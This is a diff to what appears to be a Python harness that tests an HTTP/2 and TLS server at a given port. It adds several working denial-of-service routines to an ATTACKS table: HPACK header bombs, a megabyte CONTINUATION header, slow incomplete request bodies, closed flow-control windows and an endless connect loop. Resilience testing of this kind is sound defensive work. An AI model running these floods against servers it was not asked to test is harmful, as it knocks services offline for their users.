@@ -96,6 +96,43 @@ def settings(port):
     flood(port, b"", itertools.repeat(frame(SETTINGS) * 500))
 
 
+def header_bombs(port):
+    """A header goes into the compressor's table, and is then named ten thousand times."""
+    big = b"\x40\x01a\x7f\x81\x1e" + b"v" * 4000
+    block = get(SMALL) + big + b"\xbe" * 10000
+    flood(port, b"", batches(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 2))
+
+
+def megabyte_queries(port):
+    """A query string of a megabyte, over frames of 16 kB."""
+    block = b"\x82\x86\x00\x05:path\x7f\x81\xff\x3f" + b"A" * 1_000_000
+    pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
+    flood(port, frame(HEADERS, END_STREAM, 1, pieces[0]), (frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:]))
+
+
+def slow_bodies(port):
+    """A hundred requests on each of a hundred connections, none of which is ever whole."""
+    def begin():
+        connection = connect(port)
+        connection.sendall(PREFACE + frame(SETTINGS) + b"".join(
+            frame(HEADERS, END_HEADERS, stream, post()) + frame(DATA, 0, stream, b"x" * 300)
+            for stream in range(1, 200, 2)))
+        return connection
+    for _ in kept(begin, 100):
+        pass
+
+
+def closed_windows(port):
+    """Asks for long answers and never lets them be sent."""
+    def begin():
+        connection = connect(port)
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + b"".join(
+            frame(HEADERS, END_STREAM | END_HEADERS, stream, get(LARGE, "TXT")) for stream in range(1, 200, 2)))
+        return connection
+    for _ in kept(begin, 30):
+        pass
+
+
 def many_requests(port):
     """No misuse of a frame, only very many, on one connection."""
     flood(port, frame(WINDOW, 0, 0, b"\x3f\0\0\0"), batches(request))
@@ -117,6 +154,12 @@ def kept(make, count):
                     continue
             open_.pop(ready).close()
         yield open_.values()
+
+
+def connects(port):
+    """Comes and goes, and says nothing."""
+    while True:
+        connect(port).close()
 
 
 def half_open(port):
@@ -192,7 +235,8 @@ def byte_by_byte(port):
 # By what must listen at the port: "http" in the clear, "tls", or "old": TLS 1.2 with no cipher.
 WHERE = {
     rapid_reset: "http", empty_frames: "http", continuations: "http", empty_continuations: "http", pings: "http",
-    settings: "http", many_requests: "http", half_open: "tls", half_hello: "tls", cut_handshakes: "tls",
+    settings: "http", header_bombs: "http", megabyte_queries: "http", slow_bodies: "http", closed_windows: "http",
+    many_requests: "http", connects: "http", half_open: "tls", half_hello: "tls", cut_handshakes: "tls",
     key_updates: "tls", renegotiations: "old", slow_readers: "tls", byte_by_byte: "tls",
 }
 ATTACKS = {attack.__name__: attack for attack in WHERE}
